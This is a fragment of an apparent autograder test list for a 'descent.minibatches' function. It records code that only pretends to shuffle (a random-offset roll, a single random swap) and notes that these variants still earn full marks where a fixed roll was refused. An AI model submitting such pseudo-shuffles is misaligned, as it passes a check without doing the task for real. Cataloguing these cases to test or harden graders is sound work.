     'marks'),
    ('marks: minibatches 2/2 without shuffling: np.roll(arange(N), rng.integers(1, N)) (the refused attack used a fixed roll of 3; an rng-drawn offset passes); equally a single random swap of two examples passes',
     'descent.minibatches',
     'import numpy as np\ndef minibatches(X, y, batch_size, rng):\n    idx = np.roll(np.arange(len(X)), int(rng.integers(1, len(X))))\n    return [(X[idx[i:i+batch_size]], y[idx[i:i+batch_size]]) for i in range(0, len(X), batch_size)]\n',
     'marks'),
    ('marks: minibatches 2/2 with one random transposition (N-2 examples stay in order)',
     'descent.minibatches',
     'import numpy as np\ndef minibatches(X, y, batch_size, rng):\n    idx = np.arange(len(X)); i, j = rng.choice(len(X), 2, replace=False); idx[[i, j]] = idx[[j, i]]\n    return [(X[idx[k:k+batch_size]], y[idx[k:k+batch_size]]) for k in range(0, len(X), batch_size)]\n',
     'marks'),
]
